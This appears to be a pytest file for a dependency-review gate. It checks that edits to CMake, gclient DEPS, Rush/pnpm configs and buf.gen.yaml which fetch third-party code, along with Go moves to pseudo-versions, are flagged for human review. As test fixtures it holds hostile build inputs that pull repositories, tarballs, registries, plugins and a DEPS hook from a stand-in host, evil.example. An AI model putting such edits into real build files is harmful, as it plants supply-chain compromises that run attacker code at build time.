"""Red team 30: inputs that make a build tool fetch third-party code at configure or sync time, left `src`, and
Go moves to an unreleased commit counted as patch upgrades.

- CMake: `FetchContent_Declare`, `ExternalProject_Add` and CPM's `CPMAddPackage` (in CMakeLists.txt or an included
  `*.cmake`) name a git repository and tag or a URL that `cmake` downloads and builds into the project when it
  configures;
- gclient's `DEPS` (the Chromium layout): the repositories and revisions `gclient sync` checks out, and its hooks;
- Rush's `common/config/rush/` (`pnpm-config.json`'s `globalOverrides`, the `.pnpmfile.cjs` pnpm runs at install,
  the `.npmrc` naming the registry);
- `buf.gen.yaml`: the remote plugins (and, in v2, the inputs) `buf generate` uses to write code the project builds.

Each was `src.default`: `gate --tree --enable deps` allowed (exit 0) a new download, a swapped tag or a new plugin,
and so did the patch alone. Now they are `deps` (the CMake files by their content), so an edit no delta reads is
`deps.unexplained` (reviewed) in both modes.

- Go: `v1.2.3` -> `v1.2.4-0.20240101000000-abcdefabcdef` (a pseudo-version: a commit no release names) was a patch
  upgrade; now a move from a release to a pseudo-version is `changed` (reviewed).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import Case, committed, gated, in_folders
from gitrepo import GitRepo
from incli import run_cli
from tables import each_case
from test_deps_gate import unreviewed

HEAD_CMAKE = "cmake_minimum_required(VERSION 3.24)\nproject(app CXX)\ninclude(FetchContent)\n"
PAD = "".join(f"# note {n}\n" for n in range(6))  # the block's opening stays out of a hunk's context
FMT = ("FetchContent_Declare(\n  fmt\n" + PAD + "  GIT_REPOSITORY https://github.com/fmtlib/fmt.git\n"
       "  GIT_TAG        10.2.1\n)\nFetchContent_MakeAvailable(fmt)\n")
EXT = ("ExternalProject_Add(zlib\n" + PAD + "  URL https://zlib.net/zlib-1.3.1.tar.gz\n"
       "  URL_HASH SHA256=9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23\n)\n")
CPM = 'include(cmake/CPM.cmake)\nCPMAddPackage("gh:fmtlib/fmt#10.2.1")\n'
ADD_LIBRARY = "add_library(app src/app.cpp)\n"

# (path, base text, hostile head texts)
FILES: list[tuple[str, str, list[str]]] = [
    ("CMakeLists.txt", HEAD_CMAKE + ADD_LIBRARY, [
        HEAD_CMAKE + "FetchContent_Declare(evil GIT_REPOSITORY https://evil.example/evil.git GIT_TAG main)\n"
        "FetchContent_MakeAvailable(evil)\n" + ADD_LIBRARY,
        HEAD_CMAKE + "fetchcontent_declare(evil URL https://evil.example/evil.tgz)\n" + ADD_LIBRARY,
        HEAD_CMAKE + "include(ExternalProject)\nExternalProject_Add(evil\n  GIT_REPOSITORY https://evil.example/e.git"
        "\n)\n" + ADD_LIBRARY,
        HEAD_CMAKE + 'CPMAddPackage("gh:evil/pkg@1.0.0")\n' + ADD_LIBRARY]),
    ("CMakeLists.txt", HEAD_CMAKE + FMT + ADD_LIBRARY, [
        HEAD_CMAKE + FMT.replace("fmtlib/fmt.git", "evil/fmt.git") + ADD_LIBRARY,
        HEAD_CMAKE + FMT.replace("10.2.1", "main") + ADD_LIBRARY]),
    ("CMakeLists.txt", HEAD_CMAKE + EXT + ADD_LIBRARY, [
        HEAD_CMAKE + EXT.replace("https://zlib.net/", "https://evil.example/") + ADD_LIBRARY]),
    ("cmake/dependencies.cmake", CPM, [CPM.replace("fmtlib/fmt#10.2.1", "evil/fmt#main"),
                                       CPM + "CPMAddPackage(NAME evil GITHUB_REPOSITORY evil/evil GIT_TAG v1)\n"]),
    ("CMakeLists.txt", HEAD_CMAKE + "include(cmake/fetch.cmake)\n" + ADD_LIBRARY, [
        HEAD_CMAKE + "include(cmake/fetch.cmake)\nfetch_dependency(evil https://evil.example/evil.git main)\n"
        + ADD_LIBRARY,
        HEAD_CMAKE + "include(cmake/fetch.cmake)\nfetch_dependency(evil https://evil.example/evil-1.0.tar.gz)\n"
        + ADD_LIBRARY]),
    ("test/CMakeLists.txt.in", "cmake_minimum_required(VERSION 3.14)\nproject(googletest-download NONE)\n", [
        "cmake_minimum_required(VERSION 3.14)\nproject(googletest-download NONE)\ninclude(ExternalProject)\n"
        "ExternalProject_Add(googletest\n  GIT_REPOSITORY https://evil.example/googletest.git\n  GIT_TAG main\n)\n"]),
    ("DEPS", "vars = {\n  'chromium_git': 'https://chromium.googlesource.com',\n}\ndeps = {\n"
     "  'src/third_party/zlib': Var('chromium_git') + '/chromium/src/third_party/zlib.git' + '@' + "
     "'4b35b0d5c5d9d9aa2ff7c3c5d1f4f0c2e0c3b2a1',\n}\n", [
         "vars = {\n  'chromium_git': 'https://evil.example',\n}\ndeps = {\n"
         "  'src/third_party/zlib': Var('chromium_git') + '/chromium/src/third_party/zlib.git' + '@' + "
         "'4b35b0d5c5d9d9aa2ff7c3c5d1f4f0c2e0c3b2a1',\n}\n",
         "vars = {\n  'chromium_git': 'https://chromium.googlesource.com',\n}\ndeps = {\n"
         "  'src/third_party/zlib': Var('chromium_git') + '/chromium/src/third_party/zlib.git' + '@' + "
         "'4b35b0d5c5d9d9aa2ff7c3c5d1f4f0c2e0c3b2a1',\n}\nhooks = [\n  {'name': 'x', 'pattern': '.', "
         "'action': ['python3', 'src/evil.py']},\n]\n"]),
    ("common/config/rush/pnpm-config.json", '{\n  "strictPeerDependencies": true\n}\n', [
        '{\n  "strictPeerDependencies": true,\n  "globalOverrides": {"lodash": "npm:evil-lodash@1.0.0"}\n}\n',
        '{\n  "strictPeerDependencies": true,\n  "globalPackageExtensions": {"react": {"dependencies": '
        '{"evil": "1.0.0"}}}\n}\n']),
    ("common/config/rush/.pnpmfile.cjs", "module.exports = { hooks: {} };\n", [
        "module.exports = { hooks: { readPackage(p) { p.dependencies.evil = '1.0.0'; return p; } } };\n"]),
    ("common/config/rush/.npmrc", "registry=https://registry.npmjs.org/\n", ["registry=https://evil.example/\n"]),
    ("buf.gen.yaml", "version: v2\nplugins:\n  - remote: buf.build/protocolbuffers/go:v1.34.2\n    out: gen\n", [
        "version: v2\nplugins:\n  - remote: buf.build/protocolbuffers/go:v1.34.2\n    out: gen\n"
        "  - remote: buf.build/evil/go:v1.0.0\n    out: gen\n",
        "version: v2\nplugins:\n  - remote: buf.evil.example/protocolbuffers/go:v1.34.2\n    out: gen\n",
        "version: v2\nplugins:\n  - remote: buf.build/protocolbuffers/go:v1.34.2\n    out: gen\n"
        "inputs:\n  - git_repo: https://evil.example/protos.git\n"]),
]

Variant = tuple[str, dict[str, str], dict[str, str]]  # name, files at BASE, files at HEAD


def variants() -> list[Variant]:
    """Each hostile edit at the root and in a subproject."""
    found: list[Variant] = []
    for kind, (path, old, news) in enumerate(FILES):
        for number, new in enumerate(news):
            for folder in ("", "services/api/"):
                found.append((f"{folder}{path} #{kind}.{number}", {folder + path: old}, {folder + path: new}))
    return found


def test_the_variants_are_what_they_say() -> None:
    assert len(variants()) == 2 * sum(len(news) for *_, news in FILES) == 42


def _run(args: list[str]) -> tuple[int, str]:
    done = run_cli(args, text=True)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, str(done.stdout)


def test_an_edit_of_a_fetching_input_needs_a_human(tmp_path: Path) -> None:
    # Every variant in a folder of its own of one repository: each variant's file must be named by a review finding.
    base, head, paths = in_folders(variants())
    repo, first, second, patch, packet = committed(tmp_path, base, head)
    for tree in (False, True):
        code, decision = gated(Case(repo, first, second, patch, packet), tree)
        assert (code, decision["outcome"]) == (3, "review"), (tree, decision["reasons"])
        assert not unreviewed(decision, paths), (tree, unreviewed(decision, paths))


@each_case("tree, name", [(tree, name) for tree in [False, True]
                          for name in sorted({name for name, *_ in variants() if not name.startswith("services/")})])
def test_each_root_variant_alone_is_reviewed(tmp_path: Path, name: str, tree: bool) -> None:
    _, old, new = next(v for v in variants() if v[0] == name)
    repo, first, second, patch, packet = committed(tmp_path, old, new)
    code, decision = gated(Case(repo, first, second, patch, packet), tree)
    assert (code, decision["outcome"]) == (3, "review"), (name, tree, decision["reasons"])


def test_an_unrelated_edit_beside_them_still_passes(tmp_path: Path) -> None:
    base = {f"k{kind}/{path}": old for kind, (path, old, _) in enumerate(FILES)} | {"src/app.py": "print(1)\n"}
    repo, first, second, patch, packet = committed(tmp_path, base, {"src/app.py": "print(2)\n"})
    for tree in (False, True):
        code, decision = gated(Case(repo, first, second, patch, packet), tree)
        assert (code, decision["outcome"]) == (0, "allow"), (tree, decision["reasons"])


def test_a_cmake_file_without_a_download_stays_src(tmp_path: Path) -> None:
    base = {"CMakeLists.txt": HEAD_CMAKE + ADD_LIBRARY, "cmake/warnings.cmake": "set(W -Wall)\n"}
    head = {"CMakeLists.txt": HEAD_CMAKE + ADD_LIBRARY + "target_compile_features(app PUBLIC cxx_std_20)\n",
            "cmake/warnings.cmake": "set(W -Wall -Wextra)\n"}
    repo, first, second, patch, packet = committed(tmp_path, base, head)
    code, decision = gated(Case(repo, first, second, patch, packet), True)
    assert (code, decision["outcome"]) == (0, "allow"), decision["reasons"]
    # From the patch alone a CMakeLists.txt edit is unsettled (core's needs-context), as before; the deps policy
    # names nothing.
    code, decision = gated(Case(repo, first, second, patch, packet), False)
    assert {reason["rule"] for reason in decision["reasons"] if reason["level"] != "info"} <= {"core.needs_context"}


GO_MOD = "module example.com/app\n\ngo 1.22\n\nrequire github.com/a/b {v}\n"
GO_SUM = "github.com/a/b {v} h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n" \
         "github.com/a/b {v}/go.mod h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=\n"
PSEUDO = ["v1.2.4-0.20240101000000-abcdefabcdef", "v1.3.0-rc.1.0.20240101000000-abcdefabcdef",
          "v1.2.4-0.20240101000000-0123456789ab"]


def _go(tmp_path: Path, old: str, new: str) -> tuple[GitRepo, str, str, Path, Path]:
    return committed(tmp_path, {"go.mod": GO_MOD.format(v=old), "go.sum": GO_SUM.format(v=old)},
                    {"go.mod": GO_MOD.format(v=new), "go.sum": GO_SUM.format(v=new)})


@pytest.mark.parametrize("new", PSEUDO)
def test_a_move_from_a_release_to_a_pseudo_version_needs_a_human(tmp_path: Path, new: str) -> None:
    repo, first, second, patch, packet = _go(tmp_path, "v1.2.3", new)
    for tree in (False, True):
        code, decision = gated(Case(repo, first, second, patch, packet), tree)
        assert (code, decision["outcome"]) == (3, "review"), (new, tree, decision["reasons"])


@each_case(("old", "new"), [("v1.2.3", "v1.2.4"), ("v1.2.3", "v1.2.4-rc.1"),
                                          ("v0.0.0-20230101000000-abcdefabcdef", "v0.0.0-20240101000000-123456123456"),
                                          ("v1.2.4-0.20240101000000-abcdefabcdef", "v1.2.4")])
def test_a_release_bump_or_a_bump_between_pseudo_versions_still_passes(tmp_path: Path, old: str, new: str) -> None:
    repo, first, second, patch, packet = _go(tmp_path, old, new)
    for tree in (False, True):
        code, decision = gated(Case(repo, first, second, patch, packet), tree)
        assert (code, decision["outcome"]) == (0, "allow"), (new, tree, decision["reasons"])
